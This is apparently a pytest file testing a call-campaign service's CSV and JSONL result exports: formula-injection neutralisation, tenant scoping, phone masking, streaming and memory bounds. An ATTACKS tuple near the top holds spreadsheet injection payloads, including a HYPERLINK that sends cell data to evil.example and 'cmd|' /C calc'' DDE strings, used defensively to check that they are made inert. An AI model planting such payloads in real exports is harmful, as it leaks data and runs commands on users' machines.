"""Results exports over real HTTP: CSV injection, BOM, filters, tenants, masking, streaming, memory."""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import json
import tracemalloc
import uuid
from typing import Any, cast

import httpx
import pytest
from sqlalchemy import Table, insert
from sqlalchemy.orm import Session, sessionmaker

from tests.conftest import MINIMAL_FLOW
from tests.service.helpers import ALL_DAY, Server, make_campaign
from waihu.call_record import CallRecord
from waihu.service.api import exports as api_exports
from waihu.service.api.result_filters import ResultFilters
from waihu.service.db import open_database
from waihu.service.exports import BOM, CSV_COLUMNS, csv_cell, csv_chunks, iter_rows, neutralise
from waihu.service.models import DEFAULT_TENANT, Attempt, Contact
from waihu.service.scheduler import claim_due_contacts, record_result

YAML = {"Content-Type": "application/yaml"}
#: Rows per export batch in the streaming test (the product reads 1000 at a time).
BATCH = 100
#: Cells an attacker would plant (in a CRM's reference id, a carrier's reason phrase, a flow's tag).
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)


def _keys(server: Server, tenant: str) -> dict[str, str]:
    with server.client(server.platform_key) as platform:
        keys = {}
        for role in ("strategy", "operator"):
            response = platform.post(
                "/v1/keys", json={"name": f"{tenant} {role}", "role": role, "tenant": tenant}
            )
            assert response.status_code == 201, response.text
            keys[role] = response.json()["key"]
    with server.client(keys["operator"]) as operator:
        assert operator.post("/v1/flows", content=MINIMAL_FLOW, headers=YAML).status_code in (200, 201)
    return keys


@pytest.fixture(scope="module")
def tenants(server: Server) -> dict[str, dict[str, str]]:
    """Keys of two tenants, each with the minimal flow uploaded."""
    return {name: _keys(server, name) for name in ("exp-a", "exp-b")}


def _factory(server: Server) -> sessionmaker[Session]:
    return open_database(server.settings.database_url, migrate=False)[1]


def _campaign_with_results(
    server: Server, key: str, references: list[str], *, sip_reason: str = "", tags: list[str] | None = None
) -> int:
    """A campaign whose contacts (one per reference id) each end in one final no_answer attempt."""
    with server.client(key) as client:
        body = {"name": "exp", "flow_id": "mini", "windows": ALL_DAY, "retry_policy": {}, "concurrency": 100}
        campaign = client.post("/v1/campaigns", json=body).json()
        rows = [{"reference_id": ref, "phone": f"1380000{i:04d}"} for i, ref in enumerate(references)]
        imported = client.post(f"/v1/campaigns/{campaign['id']}/contacts", json=rows)
        assert imported.status_code in (200, 201), imported.text
    factory = _factory(server)
    now = dt.datetime.now(dt.UTC)
    with factory() as session:
        claims = claim_due_contacts(session, "exp", now, len(references), campaign_ids=[campaign["id"]])
        assert len(claims) == len(references)
        for index, claim in enumerate(claims):
            result = CallRecord(
                outcome="no_answer",
                sip_code=480,
                sip_reason=sip_reason or None,
                end_at=now + dt.timedelta(seconds=index + 1),
                extra_tags=list(tags or []),
            )
            record_result(session, claim.attempt_id, result, now + dt.timedelta(seconds=index + 1))
    return int(campaign["id"])


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(BOM.encode()), "UTF-8 BOM first, so Excel reads Chinese"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_neutralise_prefixes_every_formula_start() -> None:
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    assert neutralise("张三 = 客户") == "张三 = 客户" and neutralise("a-b") == "a-b" and neutralise("") == ""
    assert csv_cell(["=1", "x"]) == "'=1|x" and csv_cell(None) == "" and csv_cell(-1.5) == "-1.5"


def test_csv_export_neutralises_injected_formulas(server: Server, tenants: dict[str, dict[str, str]]) -> None:
    keys = tenants["exp-a"]
    planted = [attack for attack in ATTACKS if attack == attack.strip()]  # the import trims spaces
    cid = _campaign_with_results(
        server,
        keys["strategy"],
        [*planted, "正常客户"],
        sip_reason="\t=1+1",
        tags=["=cmd|' /C calc'!A0", "意向"],
    )
    with server.client(keys["strategy"]) as client:
        response = client.get("/v1/exports/results.csv", params={"campaign_id": cid})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = _csv_rows(response.content)
    assert list(rows[0]) == list(CSV_COLUMNS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["sip_reason"] == "'\t=1+1" and row["tags"] == "'=cmd|' /C calc'!A0|意向"
    by_reference = {row["reference_id"]: row for row in rows}
    assert set(by_reference) == {"'" + attack for attack in planted} | {"正常客户"}  # kept, made inert
    assert by_reference["正常客户"]["phone"].startswith("'+86")  # a leading + is a formula to Excel


def test_exports_filter_scope_and_mask(server: Server, tenants: dict[str, dict[str, str]]) -> None:
    a, b = tenants["exp-a"], tenants["exp-b"]
    cid_a = _campaign_with_results(server, a["strategy"], ["a1", "a2", "a3"])
    cid_b = _campaign_with_results(server, b["strategy"], ["b1"])
    with server.client(a["strategy"]) as client:
        listed = client.get("/v1/results", params={"campaign_id": cid_a}).json()["items"]
        lines = client.get("/v1/exports/results.jsonl", params={"campaign_id": cid_a})
        assert lines.headers["content-type"].startswith("application/x-ndjson")
        exported = [json.loads(line) for line in lines.text.splitlines()]
        assert exported == listed and [item["reference_id"] for item in exported] == ["a1", "a2", "a3"]
        assert exported[0]["phone"] == "+8613800000000"
        everything = [json.loads(line) for line in client.get("/v1/exports/results.jsonl").text.splitlines()]
        assert cid_b not in {item["campaign_id"] for item in everything} and len(everything) >= 3
        other = client.get("/v1/exports/results.csv", params={"campaign_id": cid_b})
        assert other.status_code == 200 and _csv_rows(other.content) == []
        second = exported[1]["end_at"]
        window = client.get("/v1/exports/results.jsonl", params={"campaign_id": cid_a, "ended_after": second})
        assert [json.loads(line)["reference_id"] for line in window.text.splitlines()] == ["a2", "a3"]
        none = client.get("/v1/exports/results.csv", params={"campaign_id": cid_a, "outcome": "busy"})
        assert _csv_rows(none.content) == []
        naive = client.get("/v1/exports/results.csv", params={"ended_after": "2026-01-01T00:00:00"})
        assert naive.status_code == 422 and naive.json()["detail"][0]["loc"] == ["query", "ended_after"]
        bad = client.get("/v1/exports/results.csv", params={"outcome": "exploded"})
        assert bad.status_code == 422 and bad.json()["detail"][0]["loc"] == ["query", "outcome"]
        assert client.get("/v1/exports/results.jsonl", params={"transcript": True}).status_code == 200
    with server.client(a["operator"]) as operator:
        masked = _csv_rows(operator.get("/v1/exports/results.csv", params={"campaign_id": cid_a}).content)
        assert masked[0]["phone"] == "'+86138****0000"
        jsonl = operator.get("/v1/exports/results.jsonl", params={"campaign_id": cid_a}).text.splitlines()
        assert json.loads(jsonl[0])["phone"] == "+86138****0000"
        refused = operator.get("/v1/exports/results.jsonl", params={"transcript": True})
        assert refused.status_code == 403 and "transcript" in refused.json()["detail"]
    with httpx.Client(base_url=server.base_url) as anonymous:
        assert anonymous.get("/v1/exports/results.csv").status_code == 401


def _bulk_results(factory: sessionmaker[Session], campaign_id: int, count: int, start: int = 0) -> None:
    """``count`` finished attempts (one contact each) written straight into the tables."""
    base = dt.datetime(2026, 11, 23, 2, 0, tzinfo=dt.UTC)
    with factory() as session:
        contacts = [
            {"campaign_id": campaign_id, "reference_id": f"bulk{start + i}", "phone": f"139{start + i:08d}"}
            for i in range(count)
        ]
        session.execute(insert(Contact), contacts)
        ids = session.query(Contact.id).filter(Contact.campaign_id == campaign_id).order_by(Contact.id).all()
        attempts = [
            {
                "id": uuid.uuid4().hex,
                "contact_id": contact_id,
                "campaign_id": campaign_id,
                "number": 1,
                "phone": f"139{start + i:08d}",
                "flow_id": "mini",
                "flow_version": 1,
                "status": "finished",
                "claimed_by": "bulk",
                "claimed_at": base,
                "lease_until": base,
                "answer_at": base,
                "end_at": base + dt.timedelta(seconds=(start + i) // 3),  # ties: the keyset's id breaks them
                "outcome": "answered",
                "grade": "A" if i % 4 == 0 else "C",
                "grade_label": "有意向",
                "tags": ["意向", "=x"],
                "kb_hits": [],
                "rounds": 2,
                "transcript": [{"text": "很长的对话" * 20}],
            }
            for i, (contact_id,) in enumerate(ids[start : start + count])
        ]
        session.execute(cast(Table, Attempt.__table__).insert(), attempts)
        session.commit()


def test_csv_export_streams_thousands_of_rows(
    server: Server, tenants: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """20 batches over HTTP: chunked transfer (no length known up front), every row once, in order.

    Batches of 100 rows instead of 1000: the same 20 keyset steps over a tenth of the rows (volume
    is the slow tier's 100k-row test).
    """
    monkeypatch.setattr(api_exports, "iter_rows", functools.partial(iter_rows, batch=BATCH))
    keys = tenants["exp-b"]
    with server.client(keys["strategy"]) as client:
        campaign = client.post(
            "/v1/campaigns", json={"name": "bulk", "flow_id": "mini", "windows": ALL_DAY}
        ).json()
    _bulk_results(_factory(server), campaign["id"], 20 * BATCH)
    with (
        server.client(keys["strategy"]) as client,
        client.stream("GET", "/v1/exports/results.csv", params={"campaign_id": campaign["id"]}) as response,
    ):
        assert response.status_code == 200
        assert (
            response.headers.get("transfer-encoding") == "chunked"
            and "content-length" not in response.headers
        )
        body = b"".join(response.iter_bytes())
    rows = _csv_rows(body)
    assert len(rows) == 20 * BATCH and len({row["attempt_id"] for row in rows}) == 20 * BATCH
    assert [row["end_at"] for row in rows] == sorted(row["end_at"] for row in rows)
    with server.client(keys["strategy"]) as client:
        graded = client.get("/v1/exports/results.jsonl", params={"campaign_id": campaign["id"], "grade": "A"})
    lines = graded.text.splitlines()
    assert len(lines) == 5 * BATCH and all(json.loads(line)["grade"] == "A" for line in lines)


def _peak_export_bytes(factory: sessionmaker[Session], campaign_id: int) -> tuple[int, int]:
    """(rows exported, peak traced bytes) for one CSV export of ``campaign_id`` read and thrown away."""
    filters = ResultFilters(campaign_id=campaign_id)

    def view(attempt: Any, contact: Any) -> dict[str, Any]:
        from waihu.service.views import AttemptView

        return AttemptView.from_row(attempt, contact, with_transcript=False).model_dump(exclude_unset=True)

    tracemalloc.start()
    try:
        lines = 0
        for chunk in csv_chunks(iter_rows(factory, DEFAULT_TENANT, filters, batch=500), view):
            lines += chunk.count(b"\r\n")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return lines - 1, peak


@pytest.mark.slow
def test_csv_export_of_100k_rows_runs_in_bounded_memory(factory: sessionmaker[Session]) -> None:
    """Memory does not grow with the number of rows: 100k rows peak like 10k rows."""
    with factory() as session:
        small, big = make_campaign(session, name="small"), make_campaign(session, name="big")
        small_id, big_id = small.id, big.id
    _bulk_results(factory, small_id, 10_000)
    for start in range(0, 100_000, 25_000):
        _bulk_results(factory, big_id, 25_000, start=start)
    rows_small, peak_small = _peak_export_bytes(factory, small_id)
    rows_big, peak_big = _peak_export_bytes(factory, big_id)
    assert (rows_small, rows_big) == (10_000, 100_000)
    print(f"peak traced memory: 10k rows {peak_small / 1e6:.1f} MB, 100k rows {peak_big / 1e6:.1f} MB")
    assert peak_big < 1.5 * peak_small + 2_000_000, (peak_small, peak_big)


def test_platform_admin_exports_only_its_own_tenant(
    server: Server, tenants: dict[str, dict[str, str]]
) -> None:
    _campaign_with_results(server, tenants["exp-a"]["strategy"], ["p1"])
    with server.client(server.platform_key) as platform:  # tenant PLATFORM_TENANT: no campaigns
        assert platform.get("/v1/exports/results.jsonl").text == ""
        assert _csv_rows(platform.get("/v1/exports/results.csv").content) == []
